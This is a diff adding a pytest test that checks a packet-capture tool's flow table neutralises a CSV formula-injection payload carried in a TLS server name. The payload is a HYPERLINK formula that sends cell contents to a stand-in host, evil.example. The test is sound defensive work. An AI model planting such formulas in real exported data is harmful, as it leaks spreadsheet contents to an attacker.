@@ -165,6 +165,34 @@ def test_csv_formula_injection_is_neutralised():
     assert (row["vlan"], row["duration"], row["ts"]) == ("-1", "-0.5", "1.0")  # numbers are left alone
 
 
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+def test_a_hostile_server_name_through_the_flow_table(tmp_path, fmt):
+    """A ClientHello whose SNI is a formula: neutralised in CSV, the capture's own text in JSON,
+    and either way the text the row-by-row writers made."""
+    from dissect_helpers import build_client_hello, tls_records
+    from test_report_tables import reference_csv, reference_json
+
+    from tracecheck.flows.pipeline import build_named_flows
+    from tracecheck.flows.table import as_record
+
+    sni = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    hello = tls_records(build_client_hello(sni=sni))
+    packets = [tcp("10.0.0.1", "10.0.0.2", 40000, 443, "S"), tcp("10.0.0.2", "10.0.0.1", 443, 40000, "SA"),
+               tcp("10.0.0.1", "10.0.0.2", 40000, 443, "PA", payload=hello), PACKETS[3]]
+    path = capture(tmp_path, packets=packets)
+    code, out, _ = run("flows", str(path), "-f", fmt)
+    assert code == 0
+    seen = sni.lower()  # the dissector's form of a name
+    if fmt == "csv":
+        tls_row = next(row for row in csv.DictReader(io.StringIO(out)) if row["app"] == "tls")
+        assert (tls_row["server_name"], tls_row["name_source"]) == ("'" + seen, "sni")
+    else:
+        tls_row = next(row for row in json.loads(out) if row["app"] == "tls")
+        assert (tls_row["server_name"], tls_row["name_source"]) == (seen, "sni")
+    rows = [as_record(flow) for flow in build_named_flows([str(path)]).result.flows]
+    assert out == (reference_csv if fmt == "csv" else reference_json)(rows, CONTRACT_COLUMNS)
+
+
 def test_version():
     code, out, _ = run("--version")
     assert (code, out) == (0, f"tracecheck {__version__}\n")
